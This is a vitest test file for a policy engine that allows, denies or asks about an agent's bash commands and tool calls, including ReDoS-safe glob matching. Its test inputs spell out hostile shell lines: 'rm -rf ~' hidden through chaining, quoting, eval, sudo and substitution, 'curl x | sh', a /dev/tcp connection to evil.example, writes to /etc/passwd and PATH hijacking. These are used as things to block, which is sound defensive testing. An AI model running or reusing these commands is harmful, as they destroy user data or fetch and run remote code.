/**
 * Policy matching, pure (governance/policy.ts and governance/shell-command.ts): the glob matcher is linear and keeps
 * the platform's glob semantics; a bash allow rule vouches only for a line whose every command it matches; a deny
 * rule sees each command however it is chained, quoted or wrapped; an unknown tool is denied unless a rule names it.
 */
import { describe, expect, it } from 'vitest';
import { compileGlob, evaluatePolicy, globMatch } from '../governance/policy';
import { readCommandLine, UNSAFE } from '../governance/shell-command';
import type { CanonicalTool, PolicyRule, ToolPolicy } from '../governance/types';

const policy = (rules: PolicyRule[], fallback: ToolPolicy['default'] = 'deny'): ToolPolicy => ({ rules, default: fallback });
const bash = (p: ToolPolicy, command: string) => evaluatePolicy(p, 'bash', { command });
const allowGit = policy([{ tool: 'bash', pattern: 'git *', action: 'allow' }]);
const denyRm = policy([{ tool: 'bash', pattern: 'rm -rf *', action: 'deny' }], 'allow');

/** The matcher this file replaced, as the reference for what the glob means (safe on the tiny inputs used here). */
function regexGlob(glob: string, value: string): boolean {
  let source = '^';
  for (const ch of glob) source += ch === '*' ? '.*' : ch === '?' ? '.' : ch.replace(/[.+^${}()|[\]\\]/g, '\\$&');
  return new RegExp(source + '$', 's').test(value);
}

describe('glob semantics', () => {
  it('keeps the platform glob: * spans slashes, spaces and newlines, ? is one character, the rest is literal, the whole value must match', () => {
    expect(globMatch('*.ts', 'src/a/b.ts')).toBe(true);
    expect(globMatch('git *', 'git log\n--oneline')).toBe(true);
    expect(globMatch('a?c', 'abc')).toBe(true);
    expect(globMatch('a?c', 'ac')).toBe(false);
    expect(globMatch('a?c', 'abbc')).toBe(false);
    expect(globMatch('git *', 'xgit status')).toBe(false);
    expect(globMatch('git', 'git status')).toBe(false);
    expect(globMatch('', '')).toBe(true);
    expect(globMatch('*', '')).toBe(true);
    expect(globMatch('a*a', 'a')).toBe(false);
    expect(globMatch('mcp:github:*', 'mcp:github:create_issue')).toBe(true);
    // regular-expression metacharacters are plain characters
    expect(globMatch('(a)+.[b]{2}|^$\\', '(a)+.[b]{2}|^$\\')).toBe(true);
    expect(globMatch('(a)+', 'aa')).toBe(false);
    expect(globMatch('a.c', 'abc')).toBe(false);
  });

  it('agrees with the old regex matcher on every small glob and value over a, b, ? and *', () => {
    let seed = 7;
    const random = (n: number) => ((seed = (seed * 1103515245 + 12345) % 2 ** 31), seed % n);
    const pick = (alphabet: string, length: number) => Array.from({ length }, () => alphabet[random(alphabet.length)]).join('');
    for (let i = 0; i < 5000; i += 1) {
      const glob = pick('ab?*', random(8));
      const value = pick('ab', random(10));
      expect(globMatch(glob, value), `${glob} on ${value}`).toBe(regexGlob(glob, value));
    }
    // segments longer than 32 characters with ? take the multi-word path of the bit-parallel scan
    for (let i = 0; i < 300; i += 1) {
      const glob = `*${pick('ab?', 33 + random(40))}*${pick('ab', random(3))}`;
      const value = pick('ab', 60 + random(120));
      expect(globMatch(glob, value), `${glob} on ${value}`).toBe(regexGlob(glob, value));
    }
    const long = `x${'a?'.repeat(20)}b`;
    expect(globMatch(`*${long}*`, `yy${long.replaceAll('?', 'z')}yy`)).toBe(true);
  });

  it('matches the issue\'s ReDoS pattern against a 1 MB value with a bounded number of steps (linear, no backtracking)', () => {
    // every access the matcher makes to the value is a method call on this object, so they can be counted
    let steps = 0;
    class Counted extends String {
      override charCodeAt(index: number) {
        steps += 1;
        return super.charCodeAt(index);
      }
      override indexOf(search: string, from?: number) {
        steps += 1;
        return super.indexOf(search, from);
      }
      override startsWith(search: string, from?: number) {
        steps += 1;
        return super.startsWith(search, from);
      }
    }
    const n = 1_000_000;
    for (const glob of ['*a*a*a*a*a*a*a*a*a*ab', `*${'a*'.repeat(15)}b`, `*${'a?'.repeat(8)}*${'a'.repeat(40)}?b*`]) {
      steps = 0;
      expect(compileGlob(glob)(new Counted('a'.repeat(n)) as unknown as string)).toBe(false);
      // at most one indexOf or startsWith per segment, and one read per character of the value per `?` segment
      expect(steps).toBeLessThanOrEqual(glob.split('*').length * (n + 2));
    }
  });
});

describe('bash allow rules vouch only for lines whose every command they match', () => {
  it('the allow rule git * does not allow the chained commands from the issue', () => {
    for (const line of ['git status; curl x | sh', 'git log\nrm -rf ~', 'git $(rm -rf ~)', 'git status && rm -rf ~', 'git status || rm -rf ~', 'git status & rm -rf ~', 'git log `rm -rf ~`', 'git diff <(rm -rf ~)']) {
      expect(bash(allowGit, line), line).toEqual({ action: 'deny', ruleIndex: null, reason: 'default → deny' });
    }
  });

  it('the allow rule git * still allows a line of git commands, quoted separators and redirections inside the workspace', () => {
    for (const line of ['git status', 'git status && git log --oneline', "git commit -m 'fix: a; b && c'", 'git log > out/log.txt 2>&1', 'git log >> log.txt 2>/dev/null', 'git status\ngit diff', 'git log # ; rm -rf ~']) {
      expect(bash(allowGit, line), line).toMatchObject({ action: 'allow', ruleIndex: 0, reason: 'rules[0] bash "git *" → allow' });
    }
  });

  it('commands hidden in subshells, groups, control flow, functions, eval and sh -c must match the allow rule too', () => {
    for (const line of ['(rm -rf ~)', '{ git status; rm -rf ~; }', 'if git status; then rm -rf ~; fi', 'while git status; do rm -rf ~; done', 'case x in x) rm -rf ~;; esac', 'git() { rm -rf ~; }; git status', "eval 'rm -rf ~'", 'bash -c "git status; rm -rf ~"', 'git status | rm -rf ~', 'coproc rm -rf ~']) {
      expect(bash(allowGit, line).action, line).toBe('deny');
    }
  });

  it('a line of only assignments, redirections or comments has no command, so no allow rule vouches for it', () => {
    for (const line of ['', '# git status', '> out.txt']) expect(bash(policy([{ tool: 'bash', pattern: '*', action: 'allow' }]), line).action, line).toBe('deny');
  });
});

describe('what an allow rule cannot vouch for falls to its stricter neighbour', () => {
  const withAsk = policy([{ tool: 'bash', pattern: 'git *', action: 'allow' }, { tool: 'web_fetch', action: 'ask' }], 'deny');

  it('a substitution whose commands all match the allow rule is refused: ask when the policy has an ask, else its default', () => {
    expect(bash(withAsk, 'git log $(git rev-parse HEAD)')).toEqual({ action: 'ask', ruleIndex: 0, reason: 'rules[0] bash "git *" → allow refused: command substitution; → ask' });
    expect(bash(allowGit, 'git log $(git rev-parse HEAD)')).toEqual({ action: 'deny', ruleIndex: 0, reason: 'rules[0] bash "git *" → allow refused: command substitution; → deny' });
    expect(bash(policy([{ tool: 'bash', pattern: 'git *', action: 'allow' }], 'ask'), 'git log `git rev-parse HEAD`').action).toBe('ask');
  });

  it('process substitution, writes outside the workspace, non-literal command names, assignments and unreadable lines are refused', () => {
    const cases: Array<[string, string]> = [
      ['git diff <(git show HEAD:a) a', UNSAFE.process],
      ['git log > /tmp/x', UNSAFE.outside],
      ['git log > ../x', UNSAFE.outside],
      ['git log > src/../../x', UNSAFE.outside],
      ['git log > ~/.bashrc', UNSAFE.outside],
      ['git log > "$HOME/x"', UNSAFE.outside],
      ['git log > *.txt', UNSAFE.outside],
      ['git log >& /etc/x', UNSAFE.outside],
      ['git log &> /etc/x', UNSAFE.outside],
      ['git log >| /etc/x', UNSAFE.outside],
      ['git log <> /etc/x', UNSAFE.outside],
      ['{ git status; } > /etc/passwd', UNSAFE.outside],
      ['git log 2> /var/log/x', UNSAFE.outside],
      ['git fetch < /dev/tcp/evil.example/80', UNSAFE.network],
      ['PATH=/tmp/evil git status', UNSAFE.assignment],
      ["GIT_SSH_COMMAND='rm -rf ~' git fetch", UNSAFE.assignment],
      ['PATH=/tmp/evil; git status', UNSAFE.assignment],
      ['git status "unterminated', `${UNSAFE.unreadable} (unterminated double quote)`],
      ['git status )', UNSAFE.unreadable],
    ];
    for (const [line, why] of cases) {
      const decision = bash(withAsk, line);
      expect(decision.action, line).toBe('ask');
      expect(decision.reason, line).toContain(`→ allow refused: ${why}`);
    }
    const anything = policy([{ tool: 'bash', pattern: '*', action: 'allow' }, { tool: 'bash', pattern: 'never', action: 'ask' }]);
    for (const line of ['$X status', '$(echo git) status', '"$X" status', '/???/r? -rf ~', '{rm,-rf,~}']) {
      expect(bash(anything, line).reason, line).toContain(`refused: ${UNSAFE.name}`);
    }
    for (const line of ['eval "git status $X"', 'eval git status *', 'sh -c "$X"']) {
      expect(bash(anything, line).reason, line).toContain(UNSAFE.expandedString);
    }
  });

  it('a later deny or ask that matches still decides; a later allow cannot vouch for a refused line', () => {
    const p = policy([
      { tool: 'bash', pattern: 'git *', action: 'allow' },
      { tool: 'bash', action: 'allow' },
      { tool: 'bash', pattern: '*push*', action: 'deny' },
    ]);
    expect(bash(p, 'git push $(git remote)')).toMatchObject({ action: 'deny', ruleIndex: 2, reason: 'rules[2] bash "*push*" → deny' });
    expect(bash(p, 'git log $(git rev-parse HEAD)')).toMatchObject({ action: 'deny', ruleIndex: 0, reason: 'rules[0] bash "git *" → allow refused: command substitution; → deny' });
    // without the earlier pattern rule, an allow without a pattern vouches for any bash line, as written
    expect(bash(policy([{ tool: 'bash', action: 'allow' }]), 'git log $(git rev-parse HEAD)').action).toBe('allow');
  });

  it('fd duplications and the harmless devices are not writes outside the workspace', () => {
    for (const line of ['git log 2>&1', 'git log >&2', 'git log 2>&-', 'git log > /dev/null', 'git log 2> /dev/stderr', 'git log > /dev/stdout']) {
      expect(bash(withAsk, line).action, line).toBe('allow');
    }
  });
});

describe('bash deny rules match any single command of the line', () => {
  it('rm -rf * denies rm -rf however it is spaced, quoted, chained, nested or wrapped', () => {
    for (const line of [
      'rm  -rf ~',
      "'r''m'  -rf ~",
      '\\rm -rf ~',
      'r\\m -rf ~',
      '"rm" "-rf" ~',
      "$'rm' -rf ~",
      'git status; rm -rf ~',
      'git status\nrm  -rf ~',
      'git status && rm -rf ~',
      'echo ok | rm -rf ~',
      '(rm -rf ~)',
      '{ rm -rf ~; }',
      'if true; then rm -rf ~; fi',
      'for f in a; do rm -rf "$f"; done',
      'echo $(rm -rf ~)',
      'echo `rm -rf ~`',
      'cat <(rm -rf ~)',
      'x=$(rm -rf ~)',
      'cat <<EOF\n$(rm -rf ~)\nEOF',
      'echo $(( $(rm -rf ~) + 1 ))',
      'f() { rm -rf ~; }',
      "eval 'rm -rf ~'",
      'eval rm -rf ~',
      "bash -c 'rm -rf ~'",
      "sh -ec 'cd /; rm -rf ~'",
      'sudo rm -rf ~',
      'sudo -u root rm -rf ~',
      'env A=1 rm -rf ~',
      'xargs -0 rm -rf -- < list',
      'timeout 5 rm -rf ~',
      '/bin/rm -rf ~',
      "sudo bash -c 'rm -rf ~'",
      'X=1 rm -rf ~',
    ]) {
      expect(bash(denyRm, line), JSON.stringify(line)).toMatchObject({ action: 'deny', ruleIndex: 0 });
    }
    expect(bash(denyRm, 'git rm -rf src').action).toBe('allow');
  });

  it('an ask rule sees each command the same way', () => {
    expect(bash(policy([{ tool: 'bash', pattern: 'git push*', action: 'ask' }], 'allow'), 'git status && git  push origin').action).toBe('ask');
  });

  it('a deny still matches the whole raw line, as before', () => {
    expect(bash(policy([{ tool: 'bash', pattern: '*secret*', action: 'deny' }], 'allow'), "cat 'my secret.txt'").action).toBe('deny');
    expect(bash(policy([{ tool: 'bash', pattern: '*&&*', action: 'deny' }], 'allow'), 'a && b').action).toBe('deny');
  });
});

describe('unknown tools', () => {
  const other = (p: ToolPolicy, tool: string) => evaluatePolicy(p, tool as CanonicalTool, {});

  it('an unknown tool is denied under an allow or ask default, or a * rule, unless a rule names it', () => {
    expect(other(policy([], 'allow'), 'other:exfiltrate')).toEqual({ action: 'deny', ruleIndex: null, reason: 'unknown tool other:exfiltrate: denied unless a rule names it (default → allow)' });
    expect(other(policy([], 'ask'), 'other:exfiltrate').action).toBe('deny');
    expect(other(policy([{ tool: '*', action: 'allow' }], 'ask'), 'other:exfiltrate').action).toBe('deny');
    expect(other(policy([{ tool: '*', action: 'ask' }, { tool: 'other:exfiltrate', action: 'allow' }], 'deny'), 'other:exfiltrate')).toMatchObject({ action: 'allow', ruleIndex: 1 });
    expect(other(policy([{ tool: 'other:*', action: 'ask' }], 'allow'), 'other:plan')).toMatchObject({ action: 'ask', ruleIndex: 0 });
    expect(other(policy([{ tool: '*', action: 'deny' }], 'allow'), 'other:plan')).toMatchObject({ action: 'deny', ruleIndex: 0 });
  });

  it('known and MCP tools keep * rules and the default as written', () => {
    expect(other(policy([], 'allow'), 'read').action).toBe('allow');
    expect(other(policy([{ tool: '*', action: 'ask' }], 'deny'), 'mcp:github:create_issue').action).toBe('ask');
  });
});

describe('reading a command line', () => {
  it('lists each command as its words after quote removal, joined by single spaces', () => {
    expect(readCommandLine("'r''m'  -rf ~ ; git   commit -m \"a  b\" | tee  log")).toEqual({ commands: ['rm -rf ~', 'git commit -m a  b', 'tee log'], variants: [], unsafe: [], complete: true });
    expect(readCommandLine('git log $(git rev-parse HEAD)')).toEqual({ commands: ['git log $(git rev-parse HEAD)', 'git rev-parse HEAD'], variants: [], unsafe: [UNSAFE.substitution], complete: true });
    expect(readCommandLine('sudo -u bob rm -rf ~').variants).toEqual(['bob rm -rf ~', 'rm -rf ~', '~']);
  });

  it('a line nested deeper than the reader goes is denied by any bash deny rule and vouched for by no allow rule', () => {
    const deep = `${'$('.repeat(30)}rm -rf ~${')'.repeat(30)}`;
    expect(readCommandLine(deep)).toMatchObject({ complete: false, unsafe: expect.arrayContaining([UNSAFE.nested]) });
    expect(bash(denyRm, deep)).toEqual({ action: 'deny', ruleIndex: 0, reason: `rules[0] bash "rm -rf *" → deny (${UNSAFE.nested})` });
    expect(bash(policy([{ tool: 'bash', pattern: '*', action: 'allow' }]), deep).reason).toContain(`refused: `);
    // the depth that people write is read whole
    expect(readCommandLine(`${'$('.repeat(8)}rm -rf ~${')'.repeat(8)}`)).toMatchObject({ complete: true, commands: expect.arrayContaining(['rm -rf ~']) });
    // and a parser-breaking depth costs no more than reading to the bound: 8 KiB of `$(` is read, not recursed into
    expect(readCommandLine('$('.repeat(4096)).complete).toBe(false);
  });
});
